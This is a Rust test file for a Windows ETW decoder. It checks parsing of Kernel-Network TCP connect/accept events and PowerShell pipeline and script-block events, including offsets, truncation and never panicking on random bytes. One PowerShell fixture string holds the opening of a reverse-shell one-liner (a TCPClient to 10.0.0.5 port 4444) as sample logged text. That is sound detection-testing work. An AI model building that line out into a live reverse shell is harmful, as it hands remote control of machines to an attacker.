//! Kernel-Network and PowerShell decoders: golden bytes built from the
//! manifest field order (docs/FORMATS.md cites it), a hand-written hex
//! vector per layout pinning the offsets, the mapping to activities, and
//! truncated or arbitrary input (an `Err` or `Ok(None)`, never a panic).

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use super::*;
use crate::activity::{Activity, Command, CommandKind, Connection, Direction};
use crate::event::{EventKind, Guid, ProcessEvent, Timestamp};
use crate::live::etw::decode::{context_value, ip_text};
use crate::live::etw::providers::{KERNEL_NETWORK_PROVIDER, POWERSHELL_PROVIDER};

const TIME: Timestamp = Timestamp(133_500_000_000_000_000);

fn hdr(provider: Guid, event_id: u16, header_pid: u32) -> EventHeaderInfo {
    EventHeaderInfo {
        provider,
        event_id,
        version: 0,
        header_pid,
        timestamp: TIME,
        flags: EVENT_HEADER_FLAG_64_BIT_HEADER,
    }
}

fn connection(ev: &ProcessEvent) -> &Connection {
    match ev.activity.as_deref() {
        Some(Activity::Connection(c)) => c,
        other => panic!("not a connection: {other:?}"),
    }
}

fn command(ev: &ProcessEvent) -> &Command {
    match ev.activity.as_deref() {
        Some(Activity::Command(c)) => c,
        other => panic!("not a command: {other:?}"),
    }
}

// ---------------------------------------------------------------------------
// Kernel-Network.

/// The TCP connect/accept template, field by field as the manifest lists
/// it (in-type, name); `Addr` is 4 or 16 bytes by the IP version.
const TCP_TEMPLATE: &[(&str, &str)] = &[
    ("UInt32", "PID"),
    ("UInt32", "size"),
    ("Addr", "daddr"),
    ("Addr", "saddr"),
    ("Port", "dport"),
    ("Port", "sport"),
    ("UInt16", "mss"),
    ("UInt16", "sackopt"),
    ("UInt16", "tsopt"),
    ("UInt16", "wsopt"),
    ("UInt32", "rcvwin"),
    ("Int16", "rcvwinscale"),
    ("Int16", "sndwinscale"),
    ("UInt32", "seqnum"),
    ("Pointer", "connid"),
];

struct Tcp {
    pid: u32,
    daddr: IpAddr,
    saddr: IpAddr,
    dport: u16,
    sport: u16,
}

fn tcp_payload(t: &Tcp, pointer: usize) -> Vec<u8> {
    let mut b = Vec::new();
    for &(ty, name) in TCP_TEMPLATE {
        match (ty, name) {
            ("UInt32", "PID") => b.extend(t.pid.to_le_bytes()),
            ("UInt32", "size") => b.extend(0u32.to_le_bytes()),
            ("Addr", n) => match if n == "daddr" { t.daddr } else { t.saddr } {
                IpAddr::V4(a) => b.extend(a.octets()),
                IpAddr::V6(a) => b.extend(a.octets()),
            },
            ("Port", n) => b.extend(if n == "dport" { t.dport } else { t.sport }.to_be_bytes()),
            ("UInt16", "mss") => b.extend(1460u16.to_le_bytes()),
            ("UInt16", _) => b.extend(1u16.to_le_bytes()),
            ("UInt32", "rcvwin") => b.extend(65_535u32.to_le_bytes()),
            ("Int16", _) => b.extend(8i16.to_le_bytes()),
            ("UInt32", "seqnum") => b.extend(0x1234_5678u32.to_le_bytes()),
            ("Pointer", _) => b.extend(&0xffff_a000_1234_5678u64.to_le_bytes()[..pointer]),
            other => panic!("{other:?}"),
        }
    }
    b
}

const CLIENT4: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 5);
const SERVER4: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 6);
const CLIENT6: Ipv6Addr = Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 5);
const SERVER6: Ipv6Addr = Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 6);

/// The server accepting a WinRM client: local = saddr:5985, remote = the
/// client's ephemeral port ≥ 32768 (a byte-order mistake reads 50000 as
/// 20675 and 5985 as 24855).
#[test]
fn accept_is_inbound_with_the_client_as_remote_both_ip_versions() {
    for (id, server, client) in [
        (15, IpAddr::V4(SERVER4), IpAddr::V4(CLIENT4)),
        (31, IpAddr::V6(SERVER6), IpAddr::V6(CLIENT6)),
    ] {
        let t = Tcp {
            pid: 4,
            daddr: client,
            saddr: server,
            dport: 50_000,
            sport: 5985,
        };
        let p = tcp_payload(&t, 8);
        assert_eq!(p.len(), if id == 15 { 48 } else { 72 });
        let ev = decode_event(&hdr(KERNEL_NETWORK_PROVIDER, id, 1234), &p)
            .unwrap()
            .unwrap();
        assert_eq!(ev.kind, EventKind::Activity);
        assert_eq!(ev.pid, Some(4), "the payload's PID, not the header's");
        assert_eq!(ev.time, TIME);
        let c = connection(&ev);
        assert_eq!(c.direction, Direction::Inbound);
        assert_eq!(c.transport.as_deref(), Some("tcp"));
        assert_eq!(c.local_ip, Some(server.to_string()));
        assert_eq!(c.local_port, Some(5985));
        assert_eq!(c.remote_ip, Some(client.to_string()));
        assert_eq!(c.remote_port, Some(50_000));
        assert_eq!(c.client(), (Some(client.to_string().as_str()), Some(50_000)));
    }
}

#[test]
fn connect_is_outbound_with_the_server_as_remote_both_ip_versions() {
    for (id, local, server) in [
        (12, IpAddr::V4(CLIENT4), IpAddr::V4(SERVER4)),
        (28, IpAddr::V6(CLIENT6), IpAddr::V6(SERVER6)),
    ] {
        let t = Tcp {
            pid: 6120,
            daddr: server,
            saddr: local,
            dport: 5986,
            sport: 49_999,
        };
        let ev = decode_event(&hdr(KERNEL_NETWORK_PROVIDER, id, 4), &tcp_payload(&t, 8))
            .unwrap()
            .unwrap();
        assert_eq!(ev.pid, Some(6120));
        let c = connection(&ev);
        assert_eq!(c.direction, Direction::Outbound);
        assert_eq!(
            (c.local_ip.clone(), c.local_port),
            (Some(local.to_string()), Some(49_999))
        );
        assert_eq!(
            (c.remote_ip.clone(), c.remote_port),
            (Some(server.to_string()), Some(5986))
        );
        assert_eq!(c.server(), (Some(server.to_string().as_str()), Some(5986)));
    }
}

/// The IPv4 accept written out by hand: pins every offset (sport@18,
/// connid@40) independently of the template builder.
const ACCEPT_V4_HEX: &str = "04000000 00000000 0a000005 0a000006 c350 1761 b405 0100 0000 0100 \
                             ffff0000 0800 0800 78563412 7856341200a0ffff";

#[test]
fn hand_hex_accept_v4_every_field() {
    let d = decode_network(&hdr(KERNEL_NETWORK_PROVIDER, 15, 0), &hex(ACCEPT_V4_HEX))
        .unwrap()
        .unwrap();
    assert_eq!(
        d,
        TcpConnectionData {
            event_id: 15,
            version: 0,
            direction: Direction::Inbound,
            pid: 4,
            size: 0,
            daddr: IpAddr::V4(CLIENT4),
            saddr: IpAddr::V4(SERVER4),
            dport: 50_000,
            sport: 5985,
            mss: 1460,
            sackopt: 1,
            tsopt: 0,
            wsopt: 1,
            rcvwin: 65_535,
            rcvwinscale: 8,
            sndwinscale: 8,
            seqnum: 0x1234_5678,
            connid: 0xffff_a000_1234_5678,
        }
    );
    let t = Tcp {
        pid: 4,
        daddr: IpAddr::V4(CLIENT4),
        saddr: IpAddr::V4(SERVER4),
        dport: 50_000,
        sport: 5985,
    };
    let mut built = tcp_payload(&t, 8);
    built[24] = 0; // tsopt: the builder writes 1 for every option
    assert_eq!(built, hex(ACCEPT_V4_HEX));
}

#[test]
fn a_32_bit_logger_has_a_4_byte_connid() {
    let t = Tcp {
        pid: 9,
        daddr: IpAddr::V4(CLIENT4),
        saddr: IpAddr::V4(SERVER4),
        dport: 50_000,
        sport: 5985,
    };
    let p = tcp_payload(&t, 4);
    let mut h = hdr(KERNEL_NETWORK_PROVIDER, 15, 0);
    h.flags = EVENT_HEADER_FLAG_32_BIT_HEADER;
    assert_eq!(decode_network(&h, &p).unwrap().unwrap().connid, 0x1234_5678);
    // No flag: the rest's length decides.
    h.flags = 0;
    assert_eq!(decode_network(&h, &p).unwrap().unwrap().connid, 0x1234_5678);
    let p8 = tcp_payload(&t, 8);
    assert_eq!(
        decode_network(&h, &p8).unwrap().unwrap().connid,
        0xffff_a000_1234_5678
    );
}

#[test]
fn mapped_and_unspecified_addresses_are_normalised() {
    let mapped = IpAddr::V6(CLIENT4.to_ipv6_mapped());
    assert_eq!(ip_text(mapped).as_deref(), Some("10.0.0.5"));
    assert_eq!(ip_text(IpAddr::V4(Ipv4Addr::UNSPECIFIED)), None);
    assert_eq!(ip_text(IpAddr::V6(Ipv6Addr::UNSPECIFIED)), None);
    assert_eq!(ip_text(IpAddr::V6(CLIENT6)).as_deref(), Some("2001:db8::5"));
    let t = Tcp {
        pid: 4,
        daddr: mapped,
        saddr: IpAddr::V6(Ipv6Addr::UNSPECIFIED),
        dport: 50_000,
        sport: 0,
    };
    let ev = decode_event(&hdr(KERNEL_NETWORK_PROVIDER, 31, 0), &tcp_payload(&t, 8))
        .unwrap()
        .unwrap();
    let c = connection(&ev);
    assert_eq!(c.remote_ip.as_deref(), Some("10.0.0.5"));
    assert_eq!((c.local_ip.as_deref(), c.local_port), (None, None));
}

/// Event id 15 is an accept in Kernel-Network and a rundown in
/// Kernel-Process: only the provider GUID tells them apart.
#[test]
fn the_same_event_id_is_routed_by_provider() {
    let p = hex(ACCEPT_V4_HEX);
    let net = decode_event(&hdr(KERNEL_NETWORK_PROVIDER, 15, 0), &p)
        .unwrap()
        .unwrap();
    assert_eq!(net.kind, EventKind::Activity);
    // As a Kernel-Process rundown v0 the same bytes have no image terminator.
    let kp = decode_event(&hdr(KERNEL_PROCESS_PROVIDER, 15, 0), &p);
    assert!(
        matches!(&kp, Err(e) if e.provider() == "Kernel-Process"),
        "{kp:?}"
    );
    let other = Guid::parse("{f90714a8-5509-434a-bf6d-b1624c8a19a2}").unwrap();
    assert_eq!(decode_event(&hdr(other, 4104, 0), &p), Ok(None));
}

#[test]
fn other_network_events_are_ignored() {
    // 10/11 send/receive, 13 disconnect, 42/43 UDP: not asked for, not decoded.
    for id in [10u16, 11, 13, 14, 16, 17, 26, 27, 42, 43, 58, 59] {
        assert_eq!(
            decode_event(&hdr(KERNEL_NETWORK_PROVIDER, id, 0), &[0xff; 80]),
            Ok(None),
            "id {id}"
        );
    }
}

#[test]
fn every_truncated_tcp_payload_is_an_error() {
    for id in [12u16, 15, 28, 31] {
        let ip6 = id > 20;
        let (c, s) = if ip6 {
            (IpAddr::V6(CLIENT6), IpAddr::V6(SERVER6))
        } else {
            (IpAddr::V4(CLIENT4), IpAddr::V4(SERVER4))
        };
        let t = Tcp {
            pid: 1,
            daddr: c,
            saddr: s,
            dport: 40_000,
            sport: 5985,
        };
        let p = tcp_payload(&t, 8);
        let h = hdr(KERNEL_NETWORK_PROVIDER, id, 0);
        // Up to the end of seqnum every cut is an error; connid (the last 8
        // bytes, never read by the join) may be 4 bytes or missing.
        for n in 0..p.len() - 8 {
            let e = decode_event(&h, &p[..n]).unwrap_err();
            assert!(matches!(e, DecodeError::Truncated { .. }), "{id} {n}: {e:?}");
            assert_eq!(e.provider(), "Kernel-Network");
        }
        for n in p.len() - 8..p.len() {
            assert!(decode_event(&h, &p[..n]).unwrap().is_some(), "{id} {n}");
        }
        // Later versions may append: trailing bytes are ignored.
        let mut longer = p.clone();
        longer.extend([0xaa; 6]);
        assert!(decode_event(&h, &longer).unwrap().is_some());
    }
    let e = decode_event(&hdr(KERNEL_NETWORK_PROVIDER, 15, 0), &[1, 0, 0]).unwrap_err();
    assert_eq!(
        e.to_string(),
        "Kernel-Network event 15 v0: PID at offset 0 needs 4 bytes, payload has 3"
    );
}

// ---------------------------------------------------------------------------
// PowerShell.

fn utf16z(s: &str) -> Vec<u8> {
    s.encode_utf16()
        .chain([0])
        .flat_map(u16::to_le_bytes)
        .collect()
}

/// A 4103 ContextInfo as a remote session writes it (Windows PowerShell
/// 5.1 inside wsmprovhost.exe).
const CONTEXT: &str = "        Severity = Informational\r\n        Host Name = ServerRemoteHost\r\n        Host Version = 1.0.0.0\r\n        Host ID = 0f2e5c6a-1b7d-4a8e-9c3f-2d4b6a8c0e1f\r\n        Host Application = C:\\Windows\\system32\\wsmprovhost.exe -Embedding\r\n        Engine Version = 5.1.17763.1\r\n        Runspace ID = 2b5f8c3e-7a1d-4e9b-b6c4-0d2f4a6e8c1a\r\n        Pipeline ID = 7\r\n        Command Name = Get-Process\r\n        Command Type = Cmdlet\r\n        Script Name = \r\n        Command Path = \r\n        Sequence Number = 16\r\n        User = CORP\\alice\r\n        Connected User = CORP\\alice\r\n        Shell ID = Microsoft.PowerShell\r\n";
const PAYLOAD: &str = "CommandInvocation(Get-Process): \"Get-Process\"\r\n";

fn pipeline_payload() -> Vec<u8> {
    // ContextInfo, UserData, Payload.
    [utf16z(CONTEXT), utf16z(""), utf16z(PAYLOAD)].concat()
}

fn script_block_payload(n: i32, total: i32, text: &str) -> Vec<u8> {
    // MessageNumber, MessageTotal, ScriptBlockText, ScriptBlockId, Path.
    [
        n.to_le_bytes().to_vec(),
        total.to_le_bytes().to_vec(),
        utf16z(text),
        utf16z("9d6a2c1e-3b5f-4a7d-8e9c-1f2a3b4c5d6e"),
        utf16z(""),
    ]
    .concat()
}

#[test]
fn pipeline_4103_maps_context_info_and_payload() {
    let ev = decode_event(&hdr(POWERSHELL_PROVIDER, 4103, 5120), &pipeline_payload())
        .unwrap()
        .unwrap();
    assert_eq!(ev.kind, EventKind::Activity);
    assert_eq!(ev.pid, Some(5120), "the header pid: the process that ran it");
    assert_eq!(ev.time, TIME);
    assert_eq!(ev.user.as_deref(), Some(r"CORP\alice"));
    let c = command(&ev);
    assert_eq!(
        *c,
        Command {
            kind: CommandKind::Pipeline,
            name: Some("Get-Process".into()),
            value: Some("CommandInvocation(Get-Process): \"Get-Process\"".into()),
            runspace_id: Some("2b5f8c3e-7a1d-4e9b-b6c4-0d2f4a6e8c1a".into()),
            host_name: Some("ServerRemoteHost".into()),
            host_application: Some(r"C:\Windows\system32\wsmprovhost.exe -Embedding".into()),
            connected_user: Some(r"CORP\alice".into()),
            ..Command::default()
        }
    );
    assert!(c.is_remote_host());
    assert_eq!(context_value(CONTEXT, "script name"), None, "empty is None");
    assert_eq!(context_value("a = b = c", "A"), Some("b = c"));
}

#[test]
fn hand_hex_script_block_4104() {
    // MessageNumber 1, MessageTotal 2, "id" text, "g" id, "" path.
    let b = hex("01000000 02000000 690064000000 67000000 0000");
    let d = decode_powershell(&hdr(POWERSHELL_PROVIDER, 4104, 1), &b)
        .unwrap()
        .unwrap();
    assert_eq!(
        d,
        PowerShellRecord::ScriptBlock {
            message_number: 1,
            message_total: 2,
            text: "id".into(),
            id: "g".into(),
            path: String::new(),
        }
    );
    let built = [
        1i32.to_le_bytes().to_vec(),
        2i32.to_le_bytes().to_vec(),
        utf16z("id"),
        utf16z("g"),
        utf16z(""),
    ]
    .concat();
    assert_eq!(b, built);
}

#[test]
fn script_block_4104_maps_text_id_and_parts() {
    let text = "  $s = New-Object Net.Sockets.TCPClient('10.0.0.5', 4444) ÄÖ😀";
    let ev = decode_event(
        &hdr(POWERSHELL_PROVIDER, 4104, 5120),
        &script_block_payload(2, 3, text),
    )
    .unwrap()
    .unwrap();
    assert_eq!(ev.pid, Some(5120));
    assert_eq!(ev.user, None);
    assert_eq!(
        *command(&ev),
        Command {
            kind: CommandKind::ScriptBlock,
            script_block_text: Some(text.into()),
            script_block_id: Some("9d6a2c1e-3b5f-4a7d-8e9c-1f2a3b4c5d6e".into()),
            part: Some(2),
            parts: Some(3),
            ..Command::default()
        }
    );
    // Nonsense part numbers are dropped, not wrapped.
    let ev = decode_event(
        &hdr(POWERSHELL_PROVIDER, 4104, 1),
        &script_block_payload(-1, 0, ""),
    )
    .unwrap()
    .unwrap();
    let c = command(&ev);
    assert_eq!((c.part, c.parts, c.script_block_text.clone()), (None, None, None));
}

#[test]
fn every_truncated_powershell_payload_is_an_error() {
    for (id, p) in [
        (4103u16, pipeline_payload()),
        (4104, script_block_payload(1, 1, "Get-Date")),
    ] {
        let h = hdr(POWERSHELL_PROVIDER, id, 1);
        for n in 0..p.len() {
            let e = decode_event(&h, &p[..n]).unwrap_err();
            assert_eq!(e.provider(), "PowerShell", "{id} {n}");
        }
    }
    let e = decode_event(&hdr(POWERSHELL_PROVIDER, 4103, 1), &[0x41, 0]).unwrap_err();
    assert_eq!(
        e.to_string(),
        "PowerShell event 4103 v0: ContextInfo at offset 0 has no NUL terminator before the \
         end of the 2-byte payload"
    );
    // Other PowerShell events (4105, 4106, 40961…) are ignored.
    for id in [4100u16, 4105, 4106, 40961, 40962, 53504] {
        assert_eq!(
            decode_event(&hdr(POWERSHELL_PROVIDER, id, 1), &[0; 4]),
            Ok(None)
        );
    }
}

/// Every provider and event id the router knows, fed pseudo-random bytes:
/// a value or an error, never a panic (a panic in the ETW callback ends
/// the process).
#[test]
fn arbitrary_bytes_never_panic_in_any_provider() {
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    let targets: [(Guid, &[u16]); 3] = [
        (KERNEL_NETWORK_PROVIDER, &[12, 15, 28, 31]),
        (POWERSHELL_PROVIDER, &[4103, 4104]),
        (KERNEL_PROCESS_PROVIDER, &[1, 2, 15]),
    ];
    for round in 0..3000 {
        let len = (next() % 120) as usize;
        let bytes: Vec<u8> = (0..len).map(|_| next() as u8).collect();
        for &(guid, ids) in &targets {
            for &id in ids {
                let mut h = hdr(guid, id, 1);
                h.flags = [0, 0x20, 0x40][round % 3];
                let _ = decode_event(&h, &bytes);
            }
        }
    }
}
